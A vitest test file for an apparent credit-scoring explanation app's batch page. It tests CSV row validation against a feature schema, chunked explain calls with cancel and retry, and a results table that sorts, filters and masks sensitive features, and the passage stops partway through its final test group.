// The batch page's logic: CSV rows checked against the schema, chunked explaining with cancel and retries, and
// the results table's sorting, filtering and exports.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { ApiError, type Api } from '../../shared/contract.js';
import type { ExplanationDocument } from '../../shared/explanation.js';
import { isInputError } from '../../shared/problems.js';
import { appRoot } from '../../main/core/paths.js';
import { Preprocessor } from '../../main/core/preprocess.js';
import { maskedFeatureLabels } from '../../renderer/src/lib/labels.js';
import { WHOLE_APPLICANT } from '../../renderer/src/lib/validate.js';
import {
  checkRows,
  columnReport,
  headerIsText,
  headerMatcher,
  repeatedFeatures,
  malformedRows,
  noFeatureColumns,
  shownColumns,
} from '../../renderer/src/pages/batch/csv-rows.js';
import {
  rowOfProblem,
  runChunks,
  type ChunkItem,
  type ItemOutcome,
} from '../../renderer/src/pages/batch/run-chunks.js';
import {
  filterAndSort,
  maskedPseudonyms,
  problemsCsv,
  resultRows,
  resultsCsv,
  resultsJsonl,
  scoreText,
  topLabel,
  type DecisionFilter,
  type SortDir,
  type SortKey,
} from '../../renderer/src/pages/batch/results.js';
import { BatchStore, READ_CHUNK_CHARS } from '../../renderer/src/pages/batch/batch-store.js';
import { fileRefusalText } from '../../renderer/src/pages/batch/file-refusal.js';
import { makeT } from '../../renderer/src/i18n/i18n.js';
import { demoSchema } from './helpers.js';

const schema = demoSchema();
// The CSV mechanics below (header matching, line numbers, chunking) with every feature optional, so that a row
// of a few columns is good; the demo model's required features have their own test.
const optional = { ...schema, features: schema.features.map((f) => ({ ...f, required: false })) };

/** As the batch page parses a file: empty lines kept, so that rows know their line. */
function parse(text: string) {
  const parsed = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: false });
  const malformed = new Map(parsed.errors.filter((e) => e.row !== undefined).map((e) => [e.row!, e.message]));
  return { ...parsed, malformed };
}

function fakeDoc(line: number, score: number, extra: Partial<ExplanationDocument> = {}): ExplanationDocument {
  return {
    id: `doc-${line}`,
    created_at: '2026-11-26T00:00:00.000Z',
    model: { id: 'credit-demo', version: '1.0.0', sha256: 'a'.repeat(64) },
    predictions: [score],
    target: { index: 1, name: 'good' },
    score,
    baseline_score: 0.9,
    decision: { label: score >= 0.5 ? 'good' : 'bad', approved: score >= 0.5, threshold: 0.5 },
    attributions: [
      {
        feature: 'Job',
        label: '职业类型',
        value: 'fixed',
        attribution: score - 0.5,
        direction: score >= 0.5 ? 'positive' : 'negative',
        description: 'job',
      },
      {
        feature: 'sensitive_abc',
        value: null,
        attribution: -0.9,
        direction: 'negative',
        description: '敏感特征已脱敏',
        masked: true,
      },
    ],
    rest_sum: 0.01,
    rest_count: 9,
    reasons: [{ feature: 'sensitive_abc', attribution: -0.9, description: '敏感特征已脱敏' }],
    completeness: { sum: 0, expected: 0, delta: 0 },
    meta: {
      explanation: {
        method: 'integrated_gradients',
        params: {
          method: 'gausslegendre',
          n_steps: 50,
          internal_batch_size: 8192,
          target: 'good',
          baseline: 'schema',
          top_k: 2,
        },
      },
      explainer_version: '1.0.0',
      backend: 'wasm',
      locale: 'zh-CN',
      cache: 'miss',
      latency_ms: line,
    },
    _meta: { watermark: 'b'.repeat(64), key_id: 'k1', alg: 'HMAC-SHA256/JCS' },
    ...extra,
  };
}

describe('CSV rows', () => {
  it('sets aside the columns that are not features and names the features with no column', () => {
    const text = readFileSync(join(appRoot(), 'assets', 'data', 'credit_data.csv'), 'utf8');
    const parsed = parse(text);
    const columns = columnReport(schema, parsed.meta.fields ?? []);
    expect(columns.ignored).toEqual(['Status', 'Age', 'Marital']);
    expect(columns.missing).toEqual([]);
    expect(columns.missingRequired).toEqual([]);
    const { good, bad } = checkRows(schema, parsed.data, 2, parsed.malformed, ',', columns.ignored);
    expect(good.length + bad.length).toBe(4454);
    expect(good[0]).toEqual({
      line: 2,
      kept: ['good', '30', 'married'],
      applicant: {
        Seniority: 9,
        Home: 'rent',
        Time: 60,
        Records: false,
        Job: 'freelance',
        Expenses: 73,
        Income: 129,
        Assets: 0,
        Debt: 0,
        Amount: 800,
        Price: 846,
      },
    });
  });

  it('matches columns to features by name or label in either language, ignoring case and spaces', () => {
    const feature = headerMatcher(schema);
    const header = [' seniority ', 'HOME', '贷款期限', 'Record of arrears', 'employment TYPE', 'Status'].map(
      feature,
    );
    expect(header).toEqual(['Seniority', 'Home', 'Time', 'Records', 'Job', 'Status']);
    const columns = columnReport(schema, header);
    expect(columns.ignored).toEqual(['Status']);
    expect(noFeatureColumns(schema, columns)).toBe(false);
    const parsed = Papa.parse<Record<string, string>>('工龄,住房情况,逾期记录\n3,rent,no\n', {
      header: true,
      transformHeader: feature,
    });
    expect(checkRows(optional, parsed.data, 2).good[0]!.applicant).toEqual({
      Seniority: 3,
      Home: 'rent',
      Records: false,
    });
  });

  it('takes a row typed as the page shows its values (租房, 否, Part-time) as a good row of codes', () => {
    const parsed = parse(
      'Seniority,Home,Records,Job\n3,租房,否,Part-time\n4,ＲＥＮＴＩＮＧ,是,兼职\n5,城堡,对,兼职\n',
    );
    const { good, bad } = checkRows(optional, parsed.data, 2, parsed.malformed);
    expect(good.map((g) => g.applicant)).toEqual([
      { Seniority: 3, Home: 'rent', Records: false, Job: 'partime' },
      { Seniority: 4, Home: 'rent', Records: true, Job: 'partime' },
    ]);
    expect(bad).toEqual([
      {
        line: 4,
        problems: [
          { field: 'Home', code: 'unknown_category', given: '城堡' },
          { field: 'Records', code: 'wrong_type', given: '对' },
        ],
        kept: [],
      },
    ]);
  });

  it('names the features that more than one column stands for', () => {
    const feature = headerMatcher(schema);
    expect(
      repeatedFeatures(['Seniority', '工龄', 'Home', 'amount', 'Amount', 'Status'], feature, schema),
    ).toEqual([
      { feature: 'Seniority', columns: ['Seniority', '工龄'] },
      { feature: 'Amount', columns: ['amount', 'Amount'] },
    ]);
    expect(repeatedFeatures(['Seniority', 'Home', 'Status', 'Status'], feature, schema)).toEqual([]);
  });

  it('refuses a file with no feature column, and one whose header is not text', () => {
    const feature = headerMatcher(schema);
    const columns = columnReport(schema, ['name', 'city', 'phone'].map(feature));
    expect(noFeatureColumns(schema, columns)).toBe(true);
    expect(noFeatureColumns(optional, columnReport(optional, ['name']))).toBe(true);
    expect(noFeatureColumns(schema, columnReport(schema, ['['].map(feature)))).toBe(true);
    expect(headerIsText(['PK\u0003\u0004\u0014\u0000\u0006'])).toBe(false);
    expect(headerIsText(['\uFFFDS\u0000e'])).toBe(false);
    expect(headerIsText(['Seniority', '工龄'])).toBe(true);
    const many = Array.from({ length: 30 }, (_, i) => `c${i}`.padEnd(60, 'x'));
    const shown = shownColumns(many);
    expect(shown.shown).toHaveLength(12);
    expect(shown.shown[0]).toHaveLength(41);
    expect(shown.more).toBe(18);
  });

  it('lists every bad row by its line in the file with each problem, and keeps the good rows', () => {
    const parsed = parse(
      'Seniority,Home,Time,Records\n3,rent,60,no\nx,castle,500,maybe\n,,,\n\n4,owner,1.5,yes\n2,,,\n',
    );
    const { good, bad } = checkRows(optional, parsed.data, 2, parsed.malformed);
    expect(good.map((g) => g.line)).toEqual([2, 7]);
    expect(good[1]!.applicant).toEqual({ Seniority: 2 });
    expect(bad).toEqual([
      {
        line: 3,
        problems: [
          { field: 'Seniority', code: 'wrong_type', given: 'x' },
          { field: 'Home', code: 'unknown_category', given: 'castle' },
          { field: 'Time', code: 'out_of_range', given: '500' },
          { field: 'Records', code: 'wrong_type', given: 'maybe' },
        ],
        kept: [],
      },
      { line: 4, problems: [{ field: WHOLE_APPLICANT, code: 'missing' }], kept: [] },
      { line: 6, problems: [{ field: 'Time', code: 'not_integer', given: '1.5' }], kept: [] },
    ]);
  });

  it('reads an amount Excel saved with its thousands separator ("12,000") as the CLI does, and no other commas', () => {
    const parsed = parse('Amount,Assets,Seniority\n"12,000","1,234,567",3\n"1,5",100,3\n');
    const { good, bad } = checkRows(optional, parsed.data, 2, parsed.malformed);
    expect(good).toEqual([
      { line: 2, applicant: { Amount: 12000, Assets: 1234567, Seniority: 3 }, kept: [] },
    ]);
    expect(bad).toEqual([
      { line: 3, problems: [{ field: 'Amount', code: 'wrong_type', given: '1,5' }], kept: [] },
    ]);
    // A semicolon file's "1,500" may be one and a half (its decimal mark is a comma): not read as a number.
    const semi = Papa.parse<Record<string, string>>('Amount;Seniority\n1,500;3', {
      header: true,
      delimiter: ';',
    });
    expect(checkRows(optional, semi.data, 2, new Map(), semi.meta.delimiter).bad).toEqual([
      { line: 2, problems: [{ field: 'Amount', code: 'wrong_type', given: '1,500' }], kept: [] },
    ]);
  });

  it('lists a row whose feature cells are all empty as bad, as a whole, and skips an empty line', () => {
    // Every feature optional: nothing else would refuse it here, but the service would (it gives no feature).
    const parsed = parse('Status,Seniority,Home,Income\ngood,3,,\n\ngood,,,\n, ,\t,\n');
    const { good, bad } = checkRows(optional, parsed.data, 2, parsed.malformed);
    expect(good.map((g) => g.line)).toEqual([2]);
    expect(bad).toEqual([
      { line: 4, problems: [{ field: WHOLE_APPLICANT, code: 'missing' }], kept: [] },
      { line: 5, problems: [{ field: WHOLE_APPLICANT, code: 'missing' }], kept: [] },
    ]);
    // The demo model: the one problem, not each of its six required features as well.
    const demo = parse('Seniority,Time,Records,Expenses,Amount,Price,Home\n3,60,no,45,900,1200,\n,,,,,,\n');
    expect(checkRows(schema, demo.data, 2, demo.malformed).bad).toEqual([
      { line: 3, problems: [{ field: WHOLE_APPLICANT, code: 'missing' }], kept: [] },
    ]);
  });

  it('refuses a file with no column for a required feature, naming it; optional ones get their defaults', () => {
    const feature = headerMatcher(schema);
    // The demo model requires Seniority, Time, Records, Expenses, Amount and Price.
    const header = ['工龄', 'loan term', 'Records', 'Monthly expenses', 'Home', 'Status'].map(feature);
    const columns = columnReport(schema, header);
    expect(columns.missingRequired).toEqual(['Amount', 'Price']);
    expect(columns.missing).toEqual(['Job', 'Income', 'Assets', 'Debt']);
    expect(columns.ignored).toEqual(['Status']);
    expect(noFeatureColumns(schema, columns)).toBe(false);
    const complete = columnReport(schema, [...header, 'amount', '购买价格'].map(feature));
    expect(complete.missingRequired).toEqual([]);
    expect(complete.missing).toEqual(['Job', 'Income', 'Assets', 'Debt']);
    // A model whose features are all optional never refuses a file for a column it lacks.
    expect(columnReport(optional, ['Seniority']).missingRequired).toEqual([]);
    expect(columnReport(optional, ['Seniority']).missing).toHaveLength(schema.features.length - 1);
  });

  it('keeps every row on its file line across parser chunks, bad rows and empty lines included', () => {
    const lines = ['Seniority,Home,Time'];
    for (let i = 0; i < 3000; i++)
      lines.push(i % 997 === 5 ? '' : i % 1000 === 7 ? `${i % 70},rent` : `${i % 70},rent,60`);
    const good: number[] = [];
    const bad: number[] = [];
    let next = 2;
    Papa.parse<Record<string, string>>(lines.join('\n'), {
      header: true,
      skipEmptyLines: false,
      chunkSize: 4096,
      complete: () => undefined,
      chunk: (results: Papa.ParseResult<Record<string, string>>) => {
        const checked = checkRows(optional, results.data, next, malformedRows(results.errors, next - 2));
        next += results.data.length;
        good.push(...checked.good.map((g) => g.line));
        bad.push(...checked.bad.map((b) => b.line));
      },
    });
    expect(bad).toEqual([9, 1009, 2009]);
    expect(good).toHaveLength(3000 - 3 - 4);
    expect(good).not.toContain(7);
    expect(good).toContain(3001);
  });

  it('lists columns in a Chinese refusal with Chinese punctuation (、；（）), in an English one with ASCII', () => {
    const zh = (r: Parameters<typeof fileRefusalText>[0]) =>
      fileRefusalText(r, schema, 'zh-CN', makeT('zh-CN'));
    const en = (r: Parameters<typeof fileRefusalText>[0]) => fileRefusalText(r, schema, 'en', makeT('en'));
    const repeated = {
      kind: 'repeatedColumns' as const,
      repeated: [
        { feature: 'Amount', columns: ['Amount', '申请金额'] },
        { feature: 'Price', columns: ['price', 'PRICE'] },
      ],
    };
    const refusals = [
      { kind: 'noFeatureColumns' as const },
      repeated,
      { kind: 'notCsv' as const, detail: 'The file could not be read' },
    ];
    for (const r of refusals) {
      expect(zh(r)).not.toMatch(/, |; |\(/);
      expect(en(r)).not.toMatch(/、|；|（/);
    }
    expect(zh({ kind: 'noFeatureColumns' })).toContain(
      '工龄（Seniority）、住房情况（Home）、贷款期限（Time）',
    );
    expect(zh(repeated)).toContain('Amount ← “Amount”、“申请金额”；Price ← “price”、“PRICE”');
    expect(en(repeated)).toContain('Amount ← “Amount”, “申请金额”; Price ← “price”, “PRICE”');
    expect(zh({ kind: 'notCsv', detail: 'The file could not be read' })).toMatch(
      /（The file could not be read）$/,
    );
    expect(en({ kind: 'notCsv', detail: 'The file could not be read' })).toMatch(
      / \(The file could not be read\)$/,
    );
  });

  it('keeps a refused file as what is wrong with it, worded in whichever language the page is in', async () => {
    const store = new BatchStore();
    const file = (name: string, text: string) => new File([text], name, { type: 'text/csv' });
    const refusal = async (text: string) => {
      await store.load(file('batch.csv', text), schema);
      const { phase, fileError } = store.getSnapshot();
      expect(phase).toBe('failed');
      return (locale: 'zh-CN' | 'en') => fileRefusalText(fileError!, schema, locale, makeT(locale));
    };
    // An officer who switches the language reads the refusal already on screen in the new one.
    const noAmount = await refusal('Seniority,Time,Records,Expenses,Home\n3,60,no,45,rent\n');
    expect(noAmount('zh-CN')).toContain('文件缺少以下必填特征的列：申请金额、购买价格。');
    expect(noAmount('en')).toContain(
      'The file has no column for these required features: Loan amount, Purchase price.',
    );
    const noRows = await refusal(schema.features.map((f) => f.name).join(',') + '\n');
    expect(noRows('zh-CN')).toBe('文件中没有数据行');
    expect(noRows('en')).not.toMatch(/[\u4e00-\u9fff]/);
    const twice = await refusal('Amount,申请金额,Price,Seniority,Time,Records,Expenses\n1,1,1,1,1,no,1\n');
    expect(twice('en')).toContain('Amount ← “Amount”, “申请金额”');
    expect(twice('zh-CN')).toMatch(/[\u4e00-\u9fff]/);
  });

  it('reads a file whose lines mix CRLF and LF (one tool wrote it, another appended) row by row', async () => {
    const header = schema.features.map((f) => f.name).join(',');
    const sample = JSON.parse(
      readFileSync(join(appRoot(), 'assets', 'samples', 'sample-1.json'), 'utf8'),
    ) as Record<string, unknown>;
    const row = (amount: number) =>
      schema.features.map((f) => (f.name === 'Amount' ? amount : String(sample[f.name]))).join(',');
    // CRLF first then LF, and LF first then CRLF: rows neither run together nor keep a carriage return.
    for (const text of [
      `${header}\r\n${row(1000)}\r\n${row(1100)}\n${row(1200)}\n`,
      `${header}\n${row(1000)}\n${row(1100)}\r\n${row(1200)}\r\n`,
    ]) {
      const store = new BatchStore();
      await store.load(new File([text], 'mixed.csv', { type: 'text/csv' }), schema);
      const { phase, good, bad } = store.getSnapshot();
      expect(phase, JSON.stringify(text.slice(0, 40))).toBe('ready');
      expect(bad).toEqual([]);
      expect(good.map((g) => [g.line, g.applicant.Amount])).toEqual([
        [2, 1000],
        [3, 1100],
        [4, 1200],
      ]);
    }
  });

  it('says an empty file is empty, not that it cannot be read', async () => {
    const store = new BatchStore();
    // 0 bytes, a byte-order mark alone (Excel's "CSV UTF-8" of an empty sheet), blank lines.
    for (const content of ['', '\uFEFF', '\r\n\r\n']) {
      await store.load(new File([content], 'empty.csv', { type: 'text/csv' }), schema);
      const { phase, fileError } = store.getSnapshot();
      expect(phase, JSON.stringify(content)).toBe('failed');
      expect(fileError, JSON.stringify(content)).toEqual({ kind: 'emptyFile' });
      expect(fileRefusalText(fileError!, schema, 'zh-CN', makeT('zh-CN'))).toContain('文件是空的');
      expect(fileRefusalText(fileError!, schema, 'en', makeT('en'))).toContain('The file is empty');
    }
    // Not text at all is still "cannot be read".
    await store.load(new File([new Uint8Array([0, 1, 2, 0, 0xff])], 'x.csv'), schema);
    expect(store.getSnapshot().fileError?.kind).toBe('notCsv');
  });

  /** Papa.parse, logging each call into `log` as `guess` (told no separator) or `parse` (the chunked parse). */
  function spyOnPapa(log: string[]): Papa.ParseConfig[] {
    const configs: Papa.ParseConfig[] = [];
    const original = Papa.parse.bind(Papa) as (input: string, config: Papa.ParseConfig) => unknown;
    vi.spyOn(Papa, 'parse').mockImplementation(((input: string, config: Papa.ParseConfig) => {
      log.push('chunk' in config ? 'parse' : 'guess');
      configs.push(config);
      return original(input, config);
    }) as typeof Papa.parse);
    return configs;
  }

  afterEach(() => {
    vi.restoreAllMocks();
  });

  it('reads a file in turns: the decoding, the separator guess and each chunk a task of its own', async () => {
    const log: string[] = [];
    const configs = spyOnPapa(log);
    const store: BatchStore = new BatchStore(async () => {
      const { good, bad } = store.getSnapshot();
      log.push(`turn ${good.length + bad.length}`);
    });
    const csv = readFileSync(join(appRoot(), 'assets', 'data', 'credit_data.csv'));
    await store.load(new File([csv], 'credit_data.csv', { type: 'text/csv' }), schema);
    const { phase, good, bad } = store.getSnapshot();
    expect(phase).toBe('ready');
    expect(bad).toEqual([]);
    expect(good.map((g) => g.line)).toEqual(Array.from({ length: 4454 }, (_, i) => i + 2));
    // Decoded, a turn; the separator guessed, a turn; then chunk after chunk, a turn after each.
    expect(log.slice(0, 4)).toEqual(['turn 0', 'guess', 'turn 0', 'parse']);
    const rowsAtTurns = log.slice(4).map((entry) => Number(/^turn (\d+)$/.exec(entry)?.[1]));
    expect(rowsAtTurns.length).toBeGreaterThanOrEqual(Math.floor(csv.length / READ_CHUNK_CHARS));
    expect(rowsAtTurns.at(-1)).toBe(4454);
    for (let i = 1; i < rowsAtTurns.length; i++)
      expect(rowsAtTurns[i]! - rowsAtTurns[i - 1]!).toBeLessThanOrEqual(READ_CHUNK_CHARS / 50);
    expect(configs.at(-1)!.delimiter).toBe(',');
  });

  it("tells the chunked parse the separator papaparse guessed from the file's start: comma, semicolon, tab, pipe", async () => {
    const sample = JSON.parse(
      readFileSync(join(appRoot(), 'assets', 'samples', 'sample-1.json'), 'utf8'),
    ) as Record<string, unknown>;
    for (const d of [',', ';', '\t', '|']) {
      const log: string[] = [];
      const configs = spyOnPapa(log);
      const header = schema.features.map((f) => `"${f.name}"`).join(d);
      const row = (amount: number) =>
        schema.features.map((f) => `"${f.name === 'Amount' ? amount : String(sample[f.name])}"`).join(d);
      // More than one chunk: the guess reads the first, as papaparse's own would.
      const rows = Array.from({ length: 600 }, (_, i) => row(1000 + i));
      const store = new BatchStore(() => Promise.resolve());
      await store.load(new File([[header, ...rows].join('\n')], 'batch.csv'), schema);
      const { phase, good, bad } = store.getSnapshot();
      expect(phase, JSON.stringify(d)).toBe('ready');
      expect(bad).toEqual([]);
      expect(good.map((g) => g.applicant.Amount)).toEqual(rows.map((_, i) => 1000 + i));
      expect(log, JSON.stringify(d)).toEqual(['guess', 'parse']);
      expect(configs[1]!.delimiter, JSON.stringify(d)).toBe(d);
      vi.restoreAllMocks();
    }
  });

  it('lists a row without one of the demo model’s required features as bad, naming it', () => {
    const parsed = parse(
      'Seniority,Time,Records,Expenses,Amount,Price,Income\n3,60,no,45,900,1200,\n3,60,no,45,,1200,150\n',
    );
    const { good, bad } = checkRows(schema, parsed.data, 2, parsed.malformed);
    expect(good.map((g) => g.line)).toEqual([2]);
    expect(bad).toEqual([{ line: 3, problems: [{ field: 'Amount', code: 'missing' }], kept: [] }]);
  });

  it('lists a row with the wrong number of cells as bad', () => {
    const parsed = parse('Seniority,Home\n3,rent\n4,rent,extra\n');
    const { good, bad } = checkRows(optional, parsed.data, 2, parsed.malformed);
    expect(good.map((g) => g.line)).toEqual([2]);
    expect(bad.map((b) => [b.line, b.problems[0]!.field])).toEqual([[3, '*']]);
  });
});

describe('explaining in chunks', () => {
  const items: ChunkItem[] = Array.from({ length: 250 }, (_, i) => ({
    line: i + 2,
    applicant: { Seniority: i },
  }));

  function fakeApi(
    answer: (applicants: Record<string, unknown>[], call: number) => ExplanationDocument[] | Error,
  ) {
    let calls = 0;
    let inFlight = 0;
    let maxInFlight = 0;
    const sizes: number[] = [];
    const api: Pick<Api, 'explain'> = {
      async explain(request) {
        const call = calls++;
        inFlight++;
        maxInFlight = Math.max(maxInFlight, inFlight);
        sizes.push(request.applicants.length);
        await new Promise((r) => setTimeout(r, 1));
        inFlight--;
        const a = answer(request.applicants, call);
        if (a instanceof Error) throw a;
        return { documents: a };
      },
    };
    return { api, stats: () => ({ calls, maxInFlight, sizes }) };
  }

  const docsFor = (applicants: Record<string, unknown>[]) =>
    applicants.map((a) => fakeDoc(Number(a.Seniority) + 2, 0.6));

  it('sends 100 applicants per call, two calls at a time, and answers every row once, in file order per chunk', async () => {
    const { api, stats } = fakeApi(docsFor);
    const seen: ItemOutcome[] = [];
    await runChunks(
      api,
      items,
      { top_k: 5 },
      { isCancelled: () => false, onOutcomes: (o) => seen.push(...o) },
    );
    expect(stats().sizes).toEqual([100, 100, 50]);
    expect(stats().maxInFlight).toBe(2);
    expect(seen.map((o) => o.line).sort((a, b) => a - b)).toEqual(items.map((i) => i.line));
    expect(seen.every((o) => o.ok)).toBe(true);
  });

  it('stops sending chunks once cancelled', async () => {
    const { api, stats } = fakeApi(docsFor);
    let cancelled = false;
    const seen: ItemOutcome[] = [];
    await runChunks(
      api,
      items,
      {},
      {
        chunkSize: 10,
        concurrency: 1,
        isCancelled: () => cancelled,
        onOutcomes: (o) => {
          seen.push(...o);
          if (seen.length >= 30) cancelled = true;
        },
      },
    );
    expect(stats().calls).toBe(3);
    expect(seen).toHaveLength(30);
  });

  it('waits for a busy service and asks again', async () => {
    const { api, stats } = fakeApi((applicants, call) =>
      call === 0 ? new ApiError({ error: 'busy', message: 'busy', retry_after_s: 1 }) : docsFor(applicants),
    );
    const waits: number[] = [];
    const seen: ItemOutcome[] = [];
    await runChunks(
      api,
      items.slice(0, 5),
      {},
      {
        isCancelled: () => false,
        onOutcomes: (o) => seen.push(...o),
        sleep: async (ms) => void waits.push(ms),
      },
    );
    expect(waits).toEqual([1000]);
    expect(stats().calls).toBe(2);
    expect(seen.every((o) => o.ok)).toBe(true);
  });

  it('fails only the rows a refused chunk names, and explains the others', async () => {
    const { api } = fakeApi((applicants, call) =>
      call === 0
        ? new ApiError({
            error: 'invalid_request',
            message: 'bad',
            problems: [
              { field: '[1].Seniority', code: 'out_of_range', message: 'must be between 0 and 70, got 99' },
            ],
          })
        : docsFor(applicants),
    );
    const seen: ItemOutcome[] = [];
    await runChunks(
      api,
      items.slice(0, 3),
      {},
      { isCancelled: () => false, onOutcomes: (o) => seen.push(...o) },
    );
    expect(seen.map((o) => [o.line, o.ok])).toEqual([
      [2, true],
      [3, false],
      [4, true],
    ]);
    const failed = seen[1]!;
    expect(!failed.ok && failed.problems).toEqual([
      { field: 'Seniority', code: 'out_of_range', message: 'must be between 0 and 70, got 99' },
    ]);
  });

  it('reads the row a problem names, the applicant itself (`[k]`) included', () => {
    expect(rowOfProblem('[3].Seniority')).toEqual({ index: 3, field: 'Seniority' });
    expect(rowOfProblem('[12]')).toEqual({ index: 12, field: WHOLE_APPLICANT });
    expect(rowOfProblem('Seniority')).toBeNull();
    expect(rowOfProblem('options.top_k')).toBeNull();
    expect(rowOfProblem('[3]x')).toBeNull();
  });

  it('fails only the row the engine refuses as a whole (it gives no feature), and explains its 99 neighbours', async () => {
    // The engine's own refusal, for a model whose features are all optional: `[k]`, with no feature after it.
    const engine = new Preprocessor(optional);
    const { api, stats } = fakeApi((applicants) => {
      try {
        engine.encodeAll(applicants, 'caller');
        return docsFor(applicants);
      } catch (e) {
        if (!isInputError(e)) throw e;
        return new ApiError({ error: 'invalid_request', message: 'bad', problems: e.problems });
      }
    });
    const chunk: ChunkItem[] = Array.from({ length: 100 }, (_, k) => ({
      line: k + 2,
      applicant: k === 40 ? {} : { Seniority: k % 70 },
    }));
    const seen: ItemOutcome[] = [];
    await runChunks(api, chunk, {}, { isCancelled: () => false, onOutcomes: (o) => seen.push(...o) });
    expect(stats().sizes).toEqual([100, 99]);
    expect(seen.filter((o) => o.ok)).toHaveLength(99);
    const failed = seen.find((o) => !o.ok)!;
    expect(failed.line).toBe(42);
    expect(!failed.ok && failed.problems?.map((p) => [p.field, p.code])).toEqual([
      [WHOLE_APPLICANT, 'missing'],
    ]);
  });
});

describe('the results table and exports', () => {
  const outcomes: ItemOutcome[] = [
    { line: 2, ok: true, doc: fakeDoc(2, 0.7) },
    { line: 3, ok: true, doc: fakeDoc(3, 0.2) },
    { line: 4, ok: false, error: new ApiError({ error: 'internal', message: 'x' }) },
    { line: 5, ok: true, doc: fakeDoc(5, 0.9) },
  ];
  const rows = resultRows(outcomes);
  const MASKED = '敏感特征（已脱敏）';
  const masked = (wording: string) => () => wording;

  it('shows the strongest factor (masked as masked) and the first reason', () => {
    expect(rows[0]!.topMasked).toBe(true);
    expect(topLabel(rows[0]!, masked(MASKED))).toBe('敏感特征（已脱敏）');
    expect(rows[0]!.topValue).toBe(-0.9);
    expect(rows[0]!.reason).toBe('敏感特征已脱敏');
  });

  it('words a masked strongest factor as the page does now, and sorts and finds it by those words', () => {
    // The batch ran in Chinese; the page has since switched to English.
    const english = 'Sensitive feature (masked)';
    expect(topLabel(rows[0]!, masked(english))).toBe(english);
    expect(rows[0]!.haystack).not.toContain('敏感特征（已脱敏）');
    const found = (text: string, label: string) =>
      filterAndSort(rows, { decision: 'all', text }, { key: 'line', dir: 'asc' }, masked(label)).map(
        (r) => r.line,
      );
    expect(found('sensitive', english)).toEqual([2, 3, 5]);
    expect(found('（已脱敏）', english)).toEqual([]);
    expect(found('（已脱敏）', MASKED)).toEqual([2, 3, 5]);
    const unmasked = resultRows([
      {
        line: 6,
        ok: true,
        doc: fakeDoc(6, 0.7, {
          attributions: [{ ...fakeDoc(6, 0.7).attributions[0]!, attribution: 2, label: 'Employment type' }],
        }),
      },
    ]);
    const byTop = (label: string) =>
      filterAndSort(
        [...rows, ...unmasked],
        { decision: 'approved', text: '' },
        { key: 'top', dir: 'asc' },
        masked(label),
      );
    expect(byTop(english).map((r) => r.line)).toEqual([6, 2, 5]); // "Employment…" before "Sensitive…"
    expect(byTop('A masked feature').map((r) => r.line)).toEqual([2, 5, 6]);
  });

  it('sorts by any column, either way, and filters by decision and text', () => {
    const view = (filter: { decision: DecisionFilter; text: string }, sort: { key: SortKey; dir: SortDir }) =>
      filterAndSort(rows, filter, sort, masked(MASKED)).map((r) => r.line);
    expect(view({ decision: 'all', text: '' }, { key: 'score', dir: 'desc' })).toEqual([5, 2, 3, 4]);
    expect(view({ decision: 'all', text: '' }, { key: 'decision', dir: 'asc' })).toEqual([2, 5, 3, 4]);
    expect(view({ decision: 'declined', text: '' }, { key: 'line', dir: 'asc' })).toEqual([3]);
    expect(view({ decision: 'failed', text: '' }, { key: 'line', dir: 'asc' })).toEqual([4]);
    expect(view({ decision: 'all', text: '5' }, { key: 'line', dir: 'asc' })).toEqual([5]);
    expect(view({ decision: 'all', text: '脱敏' }, { key: 'line', dir: 'desc' })).toEqual([5, 3, 2]);
  });

  it('names two masked strongest factors apart, the same in every row, and finds each by its own name', () => {
    // Two sensitive features (Income and Assets in the demo model), each the strongest factor of some rows.
    const [job] = fakeDoc(2, 0.7).attributions;
    const maskedAttribution = (feature: string, attribution: number) => ({
      feature,
      value: null,
      attribution,
      direction: 'negative' as const,
      description: '敏感特征已脱敏',
      masked: true,
    });
    const docWith = (line: number, ...masked: [string, number][]) =>
      fakeDoc(line, 0.2, { attributions: [job!, ...masked.map(([f, a]) => maskedAttribution(f, a))] });
    const income = 'sensitive_3fa2c1d0e9ab';
    const assets = 'sensitive_b71e08aa4c2f';
    const two = resultRows([
      { line: 2, ok: true, doc: docWith(2, [income, -0.9]) },
      { line: 3, ok: true, doc: docWith(3, [assets, -0.8], [income, -0.1]) },
      { line: 4, ok: true, doc: docWith(4, [income, -0.7], [assets, -0.6]) },
    ]);
    const names = maskedFeatureLabels(maskedPseudonyms(two), MASKED);
    const label = (pseudonym: string) => names.get(pseudonym) ?? MASKED;
    expect(two.map((r) => topLabel(r, label))).toEqual([
      '敏感特征（已脱敏） #3fa2',
      '敏感特征（已脱敏） #b71e',
      '敏感特征（已脱敏） #3fa2',
    ]);
    const found = (text: string) =>
      filterAndSort(two, { decision: 'all', text }, { key: 'line', dir: 'asc' }, label).map((r) => r.line);
    expect(found('#b71e')).toEqual([3]);
    expect(found('已脱敏')).toEqual([2, 3, 4]);
    // Never the feature's name.
    expect(two.map((r) => topLabel(r, label)).join()).not.toMatch(/Income|Assets|收入|资产/);
  });

  it('shows a decline at 0.4997 as 49.9 %, not 50.0 % beside its threshold of 50 %', () => {
    const [decline, approval] = resultRows([
      { line: 2, ok: true, doc: fakeDoc(2, 0.4997) },
      { line: 3, ok: true, doc: fakeDoc(3, 0.5) },
    ]);
    expect(decline!.approved).toBe(false);
    expect(scoreText('zh-CN', decline!)).toBe('49.9%');
    expect(scoreText('en', decline!)).toBe('49.9%');
    expect(scoreText('zh-CN', approval!)).toBe('50.0%');
    // Away from the threshold, rounded as ever; a failed row has no score.
    expect(scoreText('zh-CN', rows[0]!)).toBe('70.0%');
    expect(scoreText('zh-CN', rows[2]!)).toBe('—');
  });

  // How fast is the UI bench's business (npm run bench:ui), not a test's: a shared machine makes timings noisy.
  it('sorts and filters 10,000 rows: every approved row, highest score first', () => {
    const many = resultRows(
      Array.from({ length: 10_000 }, (_, i) => ({
        line: i + 2,
        ok: true as const,
        doc: fakeDoc(i + 2, ((i * 7919) % 1000) / 1000),
      })),
    );
    const sorted = filterAndSort(
      many,
      { decision: 'approved', text: '' },
      { key: 'score', dir: 'desc' },
      masked('masked'),
    );
    const approved = many.filter((r) => r.approved === true);
    expect(approved.length).toBeGreaterThan(1000);
    expect(approved.length).toBeLessThan(many.length);
    expect(sorted.map((r) => r.line).sort((a, b) => a - b)).toEqual(approved.map((r) => r.line));
    for (let i = 1; i < sorted.length; i++)
      expect(sorted[i - 1]!.score!).toBeGreaterThanOrEqual(sorted[i]!.score!);
  });

